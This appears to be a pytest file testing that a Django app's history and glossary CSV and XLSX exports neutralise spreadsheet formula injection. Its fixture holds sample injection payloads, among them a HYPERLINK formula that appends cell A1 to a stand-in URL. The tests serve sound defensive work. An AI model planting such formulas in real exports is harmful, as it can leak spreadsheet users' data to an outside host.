"""No export of user text runs as a formula when a spreadsheet opens it.

A cell starting with = + - @, a tab or a carriage return is run as a formula by Excel and
LibreOffice. CSV exports mark such a cell as text with a leading apostrophe; XLSX exports
write every text as a string cell (with Excel's quote prefix when it starts like a
formula), never as a formula. Every place that exports user text is covered: the history
downloads (a room session's translations into each language too), the glossary admin's
exports and the glossary pages' exports.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from glossaries.models import Glossary
from interpreter.models import UtteranceTranslation

PREFIXED = {
    "=": '=HYPERLINK("http://x?"&A1)',
    "+": "+1+1",
    "-": "-1+1",
    "@": "@SUM(1+1)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}
CASES = pytest.mark.parametrize("text", PREFIXED.values(), ids=PREFIXED.keys())

ADMIN_EXPORT_FIELDS = {
    "resource": "0",
    "dictionaryentryresource_glossary": "on",
    "dictionaryentryresource_source": "on",
    "dictionaryentryresource_target": "on",
    "dictionaryentryresource_note": "on",
}


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def xlsx_cells(response) -> list[list]:
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    return [list(row) for row in sheet.iter_rows()]


@pytest.fixture
def formula_glossary(alpha):
    def make(text: str) -> Glossary:
        glossary = Glossary.objects.create(
            account=alpha, name=text, source_language="en-US", target_language="es-ES"
        )
        glossary.dictionary.create(source="stroke", target="ictus", note=text)
        return glossary

    return make


@CASES
def test_a_transcript_line_is_text_in_the_history_csv(
    alice_client, alice, alpha, make_session, text
):
    session = make_session(alice, alpha, lines=[(0, 1000, text, text)])

    response = alice_client.get(f"/history/{session.pk}/export/csv/")

    assert csv_rows(response)[1][2:] == ["'" + text, "'" + text]


@CASES
def test_a_room_sessions_translation_into_each_language_is_text_in_the_history_csv(
    alice_client, alice, alpha, make_session, text
):
    session = make_session(
        alice, alpha, lines=[(0, 1000, text, "")], target_language="", languages=["es-ES", "fr-FR"]
    )
    for language in ("es-ES", "fr-FR"):
        UtteranceTranslation.objects.create(
            utterance=session.utterances.get(), language=language, text=text
        )

    response = alice_client.get(f"/history/{session.pk}/export/csv/")

    assert csv_rows(response)[0][2:] == ["text", "es-ES", "fr-FR"]
    assert csv_rows(response)[1][2:] == ["'" + text] * 3


@CASES
def test_a_glossary_name_and_note_are_text_in_the_admins_csv(
    staff_alice_client, formula_glossary, text
):
    formula_glossary(text)

    response = staff_alice_client.post(
        "/admin/glossaries/dictionaryentry/export/", {"format": "0", **ADMIN_EXPORT_FIELDS}
    )

    assert csv_rows(response)[1] == ["'" + text, "stroke", "ictus", "'" + text]


@CASES
def test_a_glossary_name_and_note_are_string_cells_in_the_admins_xlsx(
    staff_alice_client, formula_glossary, text
):
    formula_glossary(text)

    response = staff_alice_client.post(
        "/admin/glossaries/dictionaryentry/export/", {"format": "1", **ADMIN_EXPORT_FIELDS}
    )

    name, _, _, note = xlsx_cells(response)[1]
    # XML reads a raw carriage return back as a line feed; the cell is text either way.
    expected = text.replace("\r", "\n")
    for cell in (name, note):
        assert (cell.value, cell.data_type, cell.quotePrefix) == (expected, "s", True)


def test_an_ordinary_text_cell_in_an_xlsx_export_has_no_quote_prefix(
    staff_alice_client, formula_glossary
):
    formula_glossary("Medical")

    response = staff_alice_client.post(
        "/admin/glossaries/dictionaryentry/export/", {"format": "1", **ADMIN_EXPORT_FIELDS}
    )

    name = xlsx_cells(response)[1][0]
    assert (name.value, name.data_type, name.quotePrefix) == ("Medical", "s", False)


@CASES
def test_a_glossary_name_and_note_are_text_in_the_glossary_pages_csv(
    alice_client, formula_glossary, text
):
    glossary = formula_glossary(text)

    response = alice_client.get(f"/glossaries/{glossary.pk}/export/dictionary.csv")

    assert csv_rows(response)[1] == ["'" + text, "stroke", "ictus", "'" + text]


@CASES
def test_a_glossary_name_and_note_are_string_cells_in_the_glossary_pages_xlsx(
    alice_client, formula_glossary, text
):
    glossary = formula_glossary(text)

    response = alice_client.get(f"/glossaries/{glossary.pk}/export/dictionary.xlsx")

    name, _, _, note = xlsx_cells(response)[1]
    expected = text.replace("\r", "\n")
    for cell in (name, note):
        assert (cell.value, cell.data_type, cell.quotePrefix) == (expected, "s", True)
